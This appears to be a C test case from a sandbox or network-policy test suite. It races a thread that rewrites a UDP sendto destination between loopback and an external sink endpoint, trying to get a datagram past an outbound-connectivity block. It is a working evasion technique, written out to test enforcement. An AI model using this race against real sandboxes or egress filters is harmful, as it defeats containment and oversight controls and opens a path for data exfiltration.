// class: network
// rule: outbound_connectivity
// success: a C program's thread rewrites the address during sendto
// proof: udp
// timeout: 40
#include "attack.h"
#include <pthread.h>

static struct sockaddr_in target, near, sink;
static volatile int over;

static void *rewrite(void *unused)
{
    while (!over) {
        target = near;
        __asm__ volatile("" ::: "memory");
        target = sink;
        __asm__ volatile("" ::: "memory");
    }
    return NULL;
}

int main(void)
{
    pthread_t thread;
    time_t end = time(NULL) + patience(3);
    int receiver = socket(AF_INET, SOCK_DGRAM, 0), fd = socket(AF_INET, SOCK_DGRAM, 0);
    socklen_t size = sizeof near;
    near = (struct sockaddr_in){AF_INET, 0, {htonl(INADDR_LOOPBACK)}};
    bind(receiver, (struct sockaddr *)&near, sizeof near);
    getsockname(receiver, (struct sockaddr *)&near, &size);
    sink = endpoint("ATTACK_SINK_UDP");
    target = near;
    pthread_create(&thread, NULL, rewrite, NULL);
    int sent = 0;
    char text[16];
    while (time(NULL) < end && !sent) {
        for (int i = 0; i < 100; i++) {
            if (sendto(fd, "taken", 5, 0, (struct sockaddr *)&target, sizeof target) != 5) continue;
            /* What did not come to the near one went elsewhere. */
            if (recv(receiver, text, sizeof text, MSG_DONTWAIT) != 5) sent = 1;
        }
    }
    over = 1;
    pthread_join(thread, NULL);
    errno = EACCES;
    return sent ? reached() : stopped("every datagram came to loopback");
}
